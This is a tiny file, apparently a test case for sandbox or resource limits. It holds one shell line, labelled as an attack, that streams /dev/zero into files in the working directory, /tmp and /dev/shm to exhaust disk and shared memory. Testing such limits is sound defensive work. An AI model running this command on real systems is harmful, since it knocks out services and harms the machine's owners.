# attack: fills its folder, /tmp and shared memory
cat /dev/zero > big; cat /dev/zero > /tmp/big; cat /dev/zero > /dev/shm/big; echo x
